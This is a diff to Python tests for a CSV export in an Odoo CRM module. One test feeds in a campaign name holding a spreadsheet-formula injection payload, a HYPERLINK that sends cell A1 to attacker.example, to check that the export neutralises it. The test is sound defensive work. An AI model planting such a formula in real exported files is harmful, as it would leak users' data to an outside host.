@@ -54,7 +54,7 @@ def test_export_csv(odoo_url, odoo_db, make_user, impact_dataset):
     assert result.returncode == 0, result.stderr
     rows = [row for row in csv.reader(io.StringIO(result.stdout), delimiter=";") if row]
     funnel = [row for row in rows if row[0] == "funnel"]
-    assert funnel[0] == ["funnel", "territory_concierge.stage_contacted", "Contacted", "430", "1.0", "22.0"]
+    assert funnel[0] == ["funnel", "territory_concierge.stage_contacted", "contacted", "Contacted", "430", "1.0", "22.0"]
     campaigns = [row for row in rows if row[0] == "campaigns"]
     assert campaigns[0][1:3] == [impact_dataset.CAMPAIGN, "43000.0"]
 
@@ -66,7 +66,8 @@ def test_export_csv_neutralises_a_formula_campaign(odoo_url, odoo_db, registry, 
     name = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'
     with registry.cursor() as cr:
         env = api.Environment(cr, SUPERUSER_ID, {})
-        campaign = env["utm.campaign"].search([("name", "=", name)]) or env["utm.campaign"].create({"name": name})
+        campaign = env["utm.campaign"].search([("name", "=", name)]) or env["utm.campaign"].create(
+            {"name": name, "concierge_campaign": True})
         env["crm.lead"].create({"name": "Famille Formule", "campaign_id": campaign.id, "type": "opportunity",
                                 "team_id": env.ref("territory_concierge.crm_team_concierge").id})
     _uid, key = make_user(["territory_concierge.group_concierge_manager"])
